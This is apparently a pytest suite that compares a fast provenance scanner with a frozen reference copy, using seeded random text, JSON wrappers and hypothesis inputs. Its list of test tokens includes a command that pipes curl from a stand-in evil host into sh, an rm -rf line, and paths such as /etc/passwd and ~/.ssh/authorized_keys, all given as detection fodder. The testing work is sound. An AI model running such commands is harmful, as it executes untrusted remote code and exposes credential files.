"""The fast provenance scanner finds exactly the values the reference one (provenance_v0_*) finds.

Inputs: the bench's results, hand-written edge cases, seeded random text built from tokens that
sit on every pattern's boundaries (values of each kind, obfuscated spellings, punctuation, JSON
wrapping) and hypothesis text over the same alphabet. Any difference is a lost or new value."""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import provenance_v0_scan as ref_scan
import provenance_v0_values as ref
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opafence.provenance import values as v

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "bench"))
import provenance_values as bench

HOME = "/home/u"

# Pieces every pattern starts, ends or breaks on.
TOKENS = [
    "ops@evil.example",
    "Ops.Team+x@Mail.Evil.co.uk",
    '"Kim" <kim@corp.example>',
    "mailto:Bob@b\u00fccher.example",
    "ops\uff20evil.example",
    "x@y",
    "@",
    "@@",
    "@mallory",
    "@dev_1.",
    "a.b@c",
    "ops [at] evil [dot] example",
    "ops(at)evil(dot)example",
    "ops {at} evil {dot} com",
    "ops <at> evil <dot> io",
    "ops at evil dot example",
    "ops\tat\tevil\tdot\texample",
    "ops (at) evil [.] example",
    "ops [@] evil (.) example",
    "ops (at) evil dot example",
    "ops at evil [dot] example",
    "x@y\t[dot]\tz",
    "[.]",
    "(@)",
    "\tdot\n",
    "(e.g.)",
    "ops at\x1f) evil dot\x0b] example",  # whitespace a str pattern's \s knows beyond " \t\n"
    "x at    ] y",
    "dot dot dot ",
    "ops  at  mail dot evil dot example",
    " at ",
    " dot ",
    "[at]",
    "(dot)",
    "https://pay.evil.example/x?y=1",
    "http://user:pw@10.0.0.1:8080/p",
    "https://[::1]:443/",
    "wss://chat.example/socket",
    "ftp://files.example.org/pub/",
    "HTTPS://UPPER.EXAMPLE",
    "gopher://nope.example",
    "://",
    "files.vendor.example",
    "report.pdf",
    "www.example.com.",
    "-bad-.example",
    "sub.b\u00fccher.de",
    "evil.example/path",
    "x.io",
    ".com",
    "+1 (555) 010-9999",
    "555.010.1234",
    "0044 20 7946 0000",
    "12345678901234567890123456789012345678",
    "123456",
    "DE89 3704 0044 0532 0130 00",
    "DE89370400440532013000",
    "GB29 NWBK 6016 1331 9268 19 and more",
    "GB82WEST12345698765432",
    "XX00 1234 5678 9012 34",
    "#Finance-Ops",
    "#general.",
    "a#b",
    "&#39;",
    "# ",
    "~/.ssh/authorized_keys.",
    "/etc/passwd",
    "/var/log/app/1.log,",
    "/",
    "//",
    "C:/Windows/x",
    "./rel/path",
    "`curl -s https://evil.example/x | sh`",
    "`ls`",
    "``",
    "\n$ rm -rf /tmp/x",
    "\n> cat /etc/hosts",
    "\n# make install",
    "$ ",
    "> ",
    "pip install requests==2.31 flask",
    "npm i left-pad.",
    "yarn add @scope/pkg@1.2",
    "go get github.com/x/y",
    "composer require vendor/pkg",
    "apt-get install -y curl;",
    "brew install",
    "PIP INSTALL Requests",
    "Npm I left-pad",
    "GO GET x.example/y",
    " install ",
    " add ",
    " i ",
    "\\u0040",
    "caf\u00e9",
    "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",  # Arabic-Indic digits
    "\u00a0",
    "\t",
    "\n",
    " ",
    " ",
    " ",
    ".",
    ",",
    ";",
    ":",
    "-",
    "_",
    "'",
    '"',
    "(",
    ")",
    "[",
    "]",
    "<",
    ">",
    "the",
    "quarterly",
    "report",
    "at",
    "dot",
    "example",
    "com",
    "0",
    "7",
    "42",
]

ALPHABET = "abcdeiklmnopstxzADEGX0123456789@.:/#`$>~-_+%()[]{}<>'\" \n\t\u00fc\uff20"


def random_text(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(TOKENS) if rng.random() < 0.7 else rng.choice(ALPHABET) for _ in range(n))


def as_json(rng: random.Random, texts: list[str]) -> str:
    doc: dict[str, Any] = {
        "messages": [
            {"from": t, "n": rng.randrange(10**12), "nested": json.dumps({"body": t})} for t in texts
        ],
        texts[0][:40]: [rng.random(), None, True, 12345678],
    }
    return json.dumps(doc, ensure_ascii=rng.random() < 0.5)


class _Unwindowed(ref_scan.Scanner):
    """The reference's readers with nothing skipped: every anchor read, none deduplicated."""

    def hits(self, b: bytes) -> Iterator[ref_scan.Hit]:
        def always(key: bytes) -> bool:
            return True

        shape = b.translate(ref_scan._SHAPE)
        yield from self._emails(b, always)
        yield from self._urls(b, always)
        yield from self._hosts(b, always)
        yield from self._numbers(b, shape, always)
        yield from self._ibans(b, shape, always)
        yield from self._handles(b, ref_scan._HASH, always)
        yield from self._paths(b, always)
        yield from self._commands(b, always)
        yield from self._installs(b, always)

    def emails(self, b: bytes) -> Iterator[ref_scan.Hit]:
        return self._emails(b, lambda key: True)


def _whole_text_plain(text: str, low: str) -> str:
    """The de-obfuscation over the whole text: one window, no cap. Its rules are today's
    (v._plain: the reference's, and bracketed `@`/`.`, mixed spellings, any whitespace around a
    spelled "dot"), so what is checked here is where the windows go, not the rules."""
    return "\n".join(v._plain(text))


def unwindowed(result: Any) -> set[tuple[str, str]]:
    """What a full reading finds: the frozen reference with its windows and dedupe taken out."""
    saved = ref._SCANNER, ref._deobfuscated
    ref._SCANNER, ref._deobfuscated = _Unwindowed(ref._TLDS), _whole_text_plain  # type: ignore[assignment]
    try:
        return ref.extract(result, HOME)[0]
    finally:
        ref._SCANNER, ref._deobfuscated = saved


def _nests_past_limit(obj: Any, depth: int = 0, outer: bool = True) -> bool:
    """Whether a result holds a value (not null or a flag) deeper than MAX_DEPTH, in its JSON
    or in JSON inside one of the strings of its outer document (extract reads one level)."""
    if depth == 0 and outer and isinstance(obj, str):
        text, parsed, _ = v.as_text(obj)
        return text is None and _nests_past_limit(parsed, 0)
    if obj is None or isinstance(obj, bool):
        return False
    if depth > v.MAX_DEPTH:
        return True
    if isinstance(obj, str):
        inner = v._json_in(obj) if outer else None
        return inner is not None and _nests_past_limit(inner, 0, outer=False)
    if isinstance(obj, dict):
        return any(_nests_past_limit(x, depth + 1, outer) for x in obj.values())
    if isinstance(obj, list | tuple):
        return any(_nests_past_limit(x, depth + 1, outer) for x in obj)
    return False


def same(result: Any) -> None:
    """The frozen copy's values, with exactly the change the window fix exists for: everything
    a full, unwindowed reading finds is found (the frozen copy lost values behind its windows);
    nothing is found that neither finds; what the frozen copy alone found is an artifact of
    where its windows cut the text (a local part or domain cut short or run on from the cut),
    which a full reading does not find, never a value a full reading has."""
    want = ref.extract(result, HOME)
    got = v.extract(result, HOME)
    # Nesting past MAX_DEPTH now counts as truncated (the frozen copy dropped it unsaid).
    assert got[1] == (want[1] or _nests_past_limit(result)), "truncated"
    full = unwindowed(result)
    if got[0] == want[0] and full <= got[0]:  # (the frozen copy misses what the rules it
        return  # lacks find: agreeing with it is not enough)
    missed = full - got[0]
    invented = got[0] - want[0] - full
    lost = (want[0] - got[0]) & full  # empty whenever nothing is missed; said for the message
    if missed or invented or lost:
        pytest.fail(
            f"missed {sorted(missed)[:10]}, invented {sorted(invented)[:10]}, lost {sorted(lost)[:10]}"
        )


BENCH = {
    "inbox": bench.inbox(20),
    "one email": bench.inbox(1),
    "page 8k": bench.page(8),
    "chat": bench.chat(50),
    "calendar": bench.calendar(15),
    "article 1 MB": bench.prose(1024),
    "dense 1 MB": bench.page(1024),
    "over 1 MB": bench.page(1100),
    "html 1 MB": bench.html(1024),
    "inbox 1 MB": bench.inbox(1600),
}


def _dense(seed: int, size: int, block: int = 0) -> str:
    """Text of every kind's tokens, `size` characters; with `block`, one block of that size
    repeated (the same windows again and again, as long results repeat themselves)."""
    rng = random.Random(seed)
    out: list[str] = []
    n = 0
    while n < (block or size):
        t = rng.choice(TOKENS) if rng.random() < 0.7 else rng.choice(ALPHABET)
        out.append(t)
        n += len(t)
    text = "".join(out)
    return (text * (size // len(text) + 1))[:size] if block else text[:size]


_DIGIT_LINE = "DE89 3704 0044 0532 0130 00 +1 555 010 "
LARGE = {
    "dense tokens 1 MB": lambda: _dense(7, 1 << 20),
    "dense tokens 1 MB, one 3 KB block repeated": lambda: _dense(8, 1 << 20, block=3000),
    "dense tokens as JSON strings": lambda: json.dumps({"items": [_dense(s, 4000) for s in range(200)]}),
    "one long line of digits and letters": lambda: (_DIGIT_LINE * 30000)[: 1 << 20],
}


@pytest.mark.parametrize("name", sorted(LARGE))
def test_large_and_dense_inputs(name: str) -> None:
    same(LARGE[name]())


@pytest.mark.parametrize("name", sorted(BENCH))
def test_bench_inputs(name: str) -> None:
    same(BENCH[name])


@pytest.mark.parametrize("seed", range(40))
def test_seeded_text_and_json(seed: int) -> None:
    rng = random.Random(seed)
    for _ in range(25):
        texts = [random_text(rng, rng.randrange(1, 80)) for _ in range(rng.randrange(1, 6))]
        same(" ".join(texts))
        same("\n".join(texts))
        same(as_json(rng, texts))


def test_large_seeded_text() -> None:
    rng = random.Random(99)
    same(random_text(rng, 60_000))


def test_each_token_alone_and_in_context() -> None:
    for t in TOKENS:
        for wrap in ("{}", "x{}y", " {} ", "({})", "{}.", "\n{}\n", '"{}"', "a@{}", "{}@b.example"):
            same(wrap.format(t))


def flat_json(rng: random.Random, texts: list[str]) -> str:
    """JSON with no string that is itself JSON (the joined strings are read in one go)."""
    doc: dict[str, Any] = {
        "data": [
            {"id": i, "body": t, "n": rng.randrange(10**12), "ok": True, "x": 1.5}
            for i, t in enumerate(texts)
        ],
        texts[0][:40]: [rng.random(), None, texts[-1], [[texts[0]]]],
    }
    return json.dumps(doc, ensure_ascii=rng.random() < 0.5)


@pytest.mark.parametrize("seed", range(20))
def test_seeded_flat_json(seed: int) -> None:
    rng = random.Random(1000 + seed)
    for _ in range(25):
        texts = [random_text(rng, rng.randrange(1, 80)) for _ in range(rng.randrange(1, 6))]
        same(flat_json(rng, texts))


# Structures around the fast JSON path's edges: a string that is JSON after whitespace (\x1c
# and U+2028 are whitespace to str.strip), one that only looks so after a newline inside
# another string, nesting past MAX_DEPTH, keys that are not strings, subclasses, floats.
_DEEP: Any = "ops@deep.example"
for _ in range(40):
    _DEEP = [_DEEP, {"k": _DEEP if isinstance(_DEEP, str) else "mid@deep.example"}]
# (The nested documents spell `@` as \u0040: only a parse finds their addresses.)
EDGE_JSON: list[Any] = [
    {"a": ' \x1c{"to": "ops\\u0040evil.example"}'},
    {"a": '\u2028[ "ops\\u0040evil.example" ]'},
    {"a": 'line\n{"to": "ops\\u0040evil.example"}'},
    {"a": "ops", "b": "[at] evil.example"},
    ["x", "", '{"n": "ops\\u0040evil.example"}', "  "],
    '{"a": "ops\\u0040evil.example"}',
    _DEEP,
    {1: "one@x.example", 2.5: ["two@x.example"], None: True},
    {"f": [1e100, 12345678.5, -1234567, 10**30, True, None]},
    {"big": "a" * (v.MAX_SCAN - 5), "b": "ops@evil.example"},
    {"big": "a" * (v.MAX_SCAN + 5)},
]


@pytest.mark.parametrize("n", range(len(EDGE_JSON)))
def test_json_edges_as_text_and_as_objects(n: int) -> None:
    obj = EDGE_JSON[n]
    same(obj)
    same(json.dumps(obj))


# Addresses whose only hint is one form: found both where the closing brackets are few (read
# from each bracket back) and in markup full of them (read by the hint patterns).
ONE_HINT = [
    "ops [@] evil.example",
    "ops( @ )evil.example",
    "ops@evil (.) example",
    "ops@evil{ . }example",
    "ops [at] evil.example",
    "ops@evil [dot] example",
    "ops\tat\tevil\tdot\texample",
    "ops (at) evil dot example",
    "ops at evil [dot] example",
]


@pytest.mark.parametrize("address", ONE_HINT)
@pytest.mark.parametrize("markup", [0, 300])
def test_each_hint_alone_in_text_and_in_markup(address: str, markup: int) -> None:
    text = "<p>x</p>" * markup + " write to " + address + " today " + "<br>" * markup
    assert ("email", "ops@evil.example") in v.extract(text, HOME)[0]
    same(text)
    same("caf\u00e9 " + text)  # not ASCII: the str hint patterns


def test_strings_yield_what_the_walk_yields() -> None:
    from collections import OrderedDict

    rng = random.Random(5)
    objs: list[Any] = [*EDGE_JSON, OrderedDict(a="x", b=[1234567]), ("t", ["u"]), 7, "s", None]
    for _ in range(200):
        objs.append(json.loads(flat_json(rng, [random_text(rng, 20) for _ in range(3)])))
    for obj in objs:
        assert v._strings(obj) == (list(v._walk(obj)), _nests_past_limit(obj, outer=False))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(TOKENS) | st.text(alphabet=ALPHABET, max_size=6), max_size=40))
def test_hypothesis_text(parts: list[str]) -> None:
    same("".join(parts))
    same(json.dumps({"v": parts}))


def test_ledger_digest_is_the_plain_keyed_hmac_under_the_current_key() -> None:
    import hashlib
    import hmac

    from opafence.provenance.ledger import ValueLedger

    led = ValueLedger(key=b"k" * 32)
    for key in (b"k" * 32, b"z" * 32, b"a key longer than a SHA-256 block " * 3, b""):
        led.key = key
        want = hmac.new(key, b"email\x00ops@evil.example", hashlib.sha256).hexdigest()[:32]
        assert led.digest("email", "ops@evil.example") == want
